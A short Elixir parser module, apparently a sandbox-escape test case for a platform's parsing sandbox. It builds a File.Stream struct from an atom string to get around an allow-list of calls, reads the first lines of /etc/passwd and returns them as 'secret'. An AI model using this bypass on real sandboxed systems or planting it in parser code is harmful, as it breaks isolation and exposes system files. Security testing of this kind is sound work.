defmodule Parser do
  use Platform.Parsing.Behaviour
  # Only allowed calls: protocol dispatch by struct name would reach Enumerable.File.Stream.
  def parse(_payload, _meta) do
    stream = %{
      __struct__: String.to_existing_atom("Elixir.File.Stream"),
      path: "/etc/passwd",
      modes: [:raw, :read_ahead, :binary],
      line_or_bytes: :line,
      raw: true,
      node: node()
    }

    %{secret: Enum.take(stream, 5)}
  end
end
